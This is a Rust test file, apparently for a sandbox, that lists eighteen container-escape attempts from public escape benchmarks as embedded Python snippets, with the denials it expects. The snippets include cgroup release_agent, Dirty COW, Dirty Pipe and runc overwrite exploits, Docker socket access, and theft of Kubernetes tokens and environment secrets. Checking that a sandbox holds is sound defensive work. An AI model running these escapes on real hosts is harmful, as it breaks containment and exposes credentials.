// SPDX-License-Identifier: Apache-2.0
//! The scenarios of the public escape benchmarks, by the names that they have there: what each
//! gives away is looked for, in our own words, where their container would have it.

use super::loose::Gift;
use super::{ALLOWED, Escape, Without, meets, wants};
use crate::attempt::Goal;

pub(super) const ESCAPES: [Escape; 18] = [
    Escape {
        attempt: wants(
            "read the host's disk by its device",
            Goal::SeeHost,
            "no device node can be made or opened",
            r"
for path in sorted(glob.glob('/dev/loop*') + glob.glob('/dev/[svx]d[a-z]')) or ['/dev/vda']:
    tried(lambda: out(open(path, 'rb').read(4096)))
def node():
    os.mknod('/tmp/node', 0o60600, os.makedev(7, @BAIT_DISK@))
    out(open('/tmp/node', 'rb').read(4096))
tried(node)
",
        ),
        of: "145, SandboxEscapeBench privileged, sandboxbench privileged_container",
        meets: meets("ENOENT EPERM", "ENOENT ENXIO", "ENOENT EPERM"),
        without: Without::Most(&[]),
    },
    Escape {
        attempt: wants(
            "connect to a container engine's socket",
            Goal::SeeHost,
            "no socket of the host is inside",
            r"
for path in ['/run/docker.sock', '/var/run/docker.sock', '/run/containerd/containerd.sock',
             '/run/crio/crio.sock', '/run/podman/podman.sock']:
    def ask():
        stream = socket.socket(socket.AF_UNIX)
        stream.connect(path)
        out(read(stream))
    tried(ask)
",
        ),
        of: "119, SandboxEscapeBench docker_socket, sandboxbench docker_socket",
        meets: meets("ENOENT", "ENOENT", "ENOENT"),
        without: Without::Most(&[Gift::Socket]),
    },
    Escape {
        attempt: wants(
            "look into the host's processes",
            Goal::SeeHost,
            "its processes are its own",
            r"
for place in glob.glob('/proc/[0-9]*'):
    try:
        for line in open(place + '/environ', 'rb').read().split(b'\0'):
            if line.startswith(b'HOST_SECRET='):
                out(line)
    except OSError:
        pass
for path in ['/environ', '/root@HOST_FILE@', '/cwd/../../../../..@HOST_FILE@']:
    tried(lambda: out(open('/proc/@VICTIM@' + path, 'rb').read()))
",
        ),
        of: "139, SandboxEscapeBench pid_namespace, sandboxbench shared_pid",
        meets: meets("ENOENT", "ENOENT", "ENOENT"),
        without: Without::Most(&[Gift::Processes]),
    },
    Escape {
        attempt: wants(
            "enter the mounts of another process",
            Goal::SeeHost,
            "no capability, and no call for it",
            r"
tried(lambda: kernel('mount', b'none', b'/tmp', b'tmpfs', 0, 0))
for pid in [@VICTIM@, 1]:
    def enter():
        kernel('setns', os.open('/proc/%d/ns/mnt' % pid, os.O_RDONLY), 0x20000)
        out(open('@HOST_FILE@').read())
    tried(enter)
",
        ),
        of: "136, SandboxEscapeBench sys_admin",
        meets: meets("EACCES ENOENT EPERM", "ENOENT EPERM", "EACCES ENOENT EPERM"),
        without: Without::Most(&[Gift::Processes]),
    },
    Escape {
        attempt: wants(
            "load a kernel module",
            Goal::Says(ALLOWED),
            "no capability, and no call for it",
            r"
def load(action):
    try:
        action()
    except OSError as error:
        # The kernel looked at what it was given.
        out('it was allowed') if error.errno in (errno.ENOEXEC, errno.EBADF) else refused(error)
load(lambda: kernel('init_module', b'\x7fELF', 4, b''))
load(lambda: kernel('finit_module', os.open('/etc/passwd', os.O_RDONLY), b'', 0))
",
        ),
        of: "144, SandboxEscapeBench sys_module, sandboxbench kernel_module",
        meets: meets("EPERM", "EPERM", "EPERM"),
        without: Without::Nothing("the host's kernel was built without modules"),
    },
    Escape {
        attempt: wants(
            "open a file of the host by its handle",
            Goal::SeeHost,
            "no capability, and no call for it",
            r"
def by_handle():
    # The root of ext4 is inode 2.
    place = os.open('/usr', os.O_RDONLY)
    root = kernel('open_by_handle_at', place, struct.pack('<IiII', 8, 1, 2, 0), os.O_RDONLY)
    out(open(os.open('@HOST_FILE@'.lstrip('/'), os.O_RDONLY, dir_fd=root)).read())
tried(by_handle)
",
        ),
        of: "144, SandboxEscapeBench dac_read_search",
        meets: meets("EPERM", "ENOTSUP", "EPERM"),
        without: Without::Most(&[]),
    },
    Escape {
        attempt: wants(
            "write where a directory of the host is mounted",
            Goal::FileAppears,
            "nothing of the host that could be written is inside",
            r"
for line in open('/proc/self/mountinfo'):
    place = line.split()[4]
    if os.path.isdir(place):
        tried(lambda: open(place + '/dropped', 'w').close())
",
        ),
        of: "144, SandboxEscapeBench hostpath_etc",
        meets: meets("EACCES ENOENT EROFS", "EACCES", "EACCES ENOENT EROFS"),
        without: Without::Most(&[Gift::Directory]),
    },
    Escape {
        attempt: wants(
            "have the kernel start a program when a group is empty",
            Goal::FileAppears,
            "no capability, no namespace, no group that can be written",
            r"
def agent():
    os.makedirs('/tmp/groups', exist_ok=True)
    kernel('mount', b'none', b'/tmp/groups', b'cgroup', 0, b'none,name=torno-escape')
    parts = '@DROP_FILE@'.lstrip('/').split('/')
    groups = ['/tmp/groups/' + '/'.join(parts[:n + 1]) for n in range(len(parts))]
    for group in groups:
        os.mkdir(group)
    # The program is told the group's path, which is the file's.
    open(groups[-1] + '/notify_on_release', 'w').write('1')
    open('/tmp/groups/release_agent', 'w').write('/usr/bin/touch')
    def visit():
        open(groups[-1] + '/cgroup.procs', 'w').write('0')
    apart(visit)
    time.sleep(0.5)
    for group in reversed(groups):
        os.rmdir(group)
    kernel('umount2', b'/tmp/groups', 0)
tried(agent)
def in_a_namespace():
    tried(lambda: kernel('unshare', 0x10000000 | 0x20000 | 0x2000000))
    tried(agent)
apart(in_a_namespace)
for path in glob.glob('/sys/fs/cgroup/*/release_agent'):
    tried(lambda: os.close(os.open(path, os.O_WRONLY)))
",
        ),
        of: "144, SandboxEscapeBench cgroup_release_agent, sandboxbench cgroup_escape, \
             cve-2022-0492",
        meets: meets("EPERM", "EACCES EPERM", "ENOSPC EPERM"),
        without: Without::Most(&[]),
    },
    Escape {
        attempt: wants(
            "write to the program of a process that runs",
            Goal::Says(ALLOWED),
            "programs lie on read-only mounts",
            r"
for link in glob.glob('/proc/[0-9]*/exe'):
    def write():
        held = os.open(link, os.O_PATH)
        os.close(os.open('/proc/self/fd/%d' % held, os.O_WRONLY))
        out('it was allowed')
    try:
        write()
    except OSError as error:
        # Busy: it can be written to once its process ends.
        out('it was allowed') if error.errno == errno.ETXTBSY else refused(error)
",
        ),
        of: "137, SandboxEscapeBench runc_overwrite, cve-2019-5736",
        meets: meets("EACCES", "EACCES", "EACCES EROFS"),
        without: Without::Most(&[Gift::Processes]),
    },
    Escape {
        attempt: wants(
            "load a program into the kernel",
            Goal::Says(ALLOWED),
            "no capability, and no call for it",
            r"
allowed(lambda: kernel('bpf', 0, struct.pack('<IIII', 2, 4, 4, 1).ljust(120, b'\0'), 120))
# A program of two instructions: r0 = 0; exit.
text = ctypes.create_string_buffer(bytes.fromhex('b7000000000000009500000000000000'))
words = ctypes.create_string_buffer(b'GPL')
program = struct.pack('<IIQQ', 1, 2, ctypes.addressof(text), ctypes.addressof(words))
allowed(lambda: kernel('bpf', 5, program.ljust(120, b'\0'), 120))
",
        ),
        of: "136, SandboxEscapeBench bpf_privesc, cve-2017-16995, cve-2018-18445, cve-2021-3444",
        meets: meets("EPERM", "EPERM", "EPERM"),
        without: Without::Most(&[]),
    },
    Escape {
        attempt: wants(
            "write through a private mapping of a read-only file",
            Goal::Says(ALLOWED),
            "the kernel that runs it",
            r"
open('/tmp/cow', 'wb').write(b'a' * 4096)
os.chmod('/tmp/cow', 0o444)
file = os.open('/tmp/cow', os.O_RDONLY)
page = mmap.mmap(file, 4096, mmap.MAP_PRIVATE, mmap.PROT_READ)
address = 0
for line in open('/proc/self/maps'):
    if line.rstrip().endswith('/tmp/cow'):
        address = int(line.split('-')[0], 16)
end = time.time() + 1
def forget():
    while time.time() < end:
        page.madvise(mmap.MADV_DONTNEED)
thread = threading.Thread(target=forget)
thread.start()
memory = os.open('/proc/self/mem', os.O_RDWR)
while time.time() < end:
    os.pwrite(memory, b'b', address)
thread.join()
out('it was allowed') if b'b' in open('/tmp/cow', 'rb').read() else absent()
",
        ),
        of: "SandboxEscapeBench dirty_cow, cve-2016-5195, cve-2017-1000405, cve-2022-2590",
        meets: meets("EACCES", "EACCES", "EACCES"),
        without: Without::Nothing("the host's kernel has the repair"),
    },
    Escape {
        attempt: wants(
            "write into a file's pages through a pipe",
            Goal::Says(ALLOWED),
            "the kernel that runs it",
            r"
open('/tmp/pipe', 'wb').write(b'a' * 4096)
os.chmod('/tmp/pipe', 0o444)
file = os.open('/tmp/pipe', os.O_RDONLY)
back, front = os.pipe()
os.write(front, b'x' * 65536)
left = 65536
while left:
    left -= len(os.read(back, left))
def spliced():
    offset = ctypes.c_longlong(0)
    got = LIBC.splice(file, ctypes.byref(offset), front, None, ctypes.c_size_t(1), 0)
    if got < 0:
        raise OSError(ctypes.get_errno(), 'splice')
    os.write(front, b'bbbb')
    if b'b' in open('/tmp/pipe', 'rb').read():
        out('it was allowed')
tried(spliced)
absent()
",
        ),
        of: "SandboxEscapeBench dirty_pipe, cve-2022-0847",
        meets: meets("absent", "absent", "absent"),
        without: Without::Nothing("the host's kernel has the repair"),
    },
    Escape {
        attempt: wants(
            "open a packet socket",
            Goal::Says(ALLOWED),
            "no capability, and three families of sockets",
            r"
family(socket.AF_PACKET, socket.SOCK_RAW, 0x300)
family(socket.AF_PACKET, socket.SOCK_DGRAM, 0x300)
family(socket.AF_INET, socket.SOCK_RAW, 1)
family(socket.AF_INET6, socket.SOCK_RAW, 58)
",
        ),
        of: "031, SandboxEscapeBench packet_socket, cve-2016-8655, cve-2017-7308, cve-2020-14386, \
             cve-2017-15649, cve-2017-1000111, cve-2018-18559",
        meets: meets("EPERM", "EPERM", "EPERM"),
        without: Without::Most(&[]),
    },
    Escape {
        attempt: wants(
            "write the knobs by which a kernel starts programs",
            Goal::Says(ALLOWED),
            "the kernel's knobs are read-only and no longer ours",
            r"
for path in ['/proc/sys/kernel/core_pattern', '/proc/sys/kernel/modprobe',
             '/proc/sys/kernel/poweroff_cmd', '/sys/kernel/uevent_helper',
             '/proc/sys/fs/binfmt_misc/register', '/proc/sys/vm/overcommit_memory',
             '/proc/sys/net/ipv4/ip_forward', '/proc/sys/kernel/hostname']:
    def write():
        # What it says already, so that the control changes nothing.
        value = '' if path.endswith('register') else open(path).read()
        with open(path, 'w') as knob:
            knob.write(value)
        out('it was allowed')
    tried(write)
",
        ),
        of: "142, 144, SandboxEscapeBench k8s_crio_escape, sandboxbench proc_writable, \
             cve-2022-0811",
        meets: meets("ENOENT EROFS", "EACCES ENOENT", "EACCES ENOENT"),
        without: Without::Most(&[]),
    },
    Escape {
        attempt: wants(
            "replace a program that a tool of the host will run",
            Goal::FileAppears,
            "programs lie on read-only mounts",
            r"
for place in os.environ['PATH'].split(':') + ['/usr/local/bin', '/.torno']:
    tried(lambda: open(place + '/dropped', 'w').close())
",
        ),
        of: "SandboxEscapeBench k8s_malicious_binary, cve-2019-1002101",
        meets: meets("ENOENT EROFS", "EACCES ENOENT", "ENOENT EROFS"),
        without: Without::Most(&[Gift::Directory]),
    },
    Escape {
        attempt: wants(
            "take the token of a service account",
            Goal::SeeHost,
            "no token of the host's orchestration is inside",
            r"
for top in ['/run/secrets', '/var/run/secrets']:
    path = top + '/kubernetes.io/serviceaccount/token'
    tried(lambda: out(open(path, 'rb').read()))
for name, value in os.environ.items():
    if name.startswith('KUBERNETES_'):
        out(name + '=' + value)
",
        ),
        of: "SandboxEscapeBench k8s_rbac_permissions",
        meets: meets("ENOENT", "ENOENT", "ENOENT"),
        without: Without::Most(&[Gift::Token]),
    },
    Escape {
        attempt: wants(
            "reach what listens on the host's loopback",
            Goal::SeeHost,
            "its loopback is its own",
            r"
for host in ['127.0.0.1', '127.0.0.2', '0.0.0.0', '::1', '::ffff:127.0.0.1']:
    head = b'GET / HTTP/1.1\r\nHost: localhost\r\n\r\n'
    tried(lambda: raw(host, head, port=@BAIT_PORT@, tls=False))
",
        ),
        of: "028, SandboxEscapeBench k8s_route_localnet, cve-2020-8558",
        meets: meets("ECONNREFUSED", "ECONNREFUSED", "ECONNREFUSED"),
        without: Without::Most(&[Gift::Network]),
    },
    Escape {
        attempt: wants(
            "leave through a descriptor that was left open",
            Goal::SeeHost,
            "no descriptor is inherited",
            r"
places = ['/proc/self/fd/%d' % fd for fd in range(3, 64)]
places += ['/proc/1/fd/%d' % fd for fd in range(16)] + ['/proc/1/cwd', '/proc/self/cwd']
for place in places:
    tried(lambda: out(open(place + '/../../../../../..@HOST_FILE@', 'rb').read()))
",
        ),
        of: "137, SandboxEscapeBench k8s_runc, cve-2024-21626",
        meets: meets("EACCES ENOENT", "EACCES ENOENT ENOTDIR", "EACCES ENOENT"),
        without: Without::Walls,
    },
];
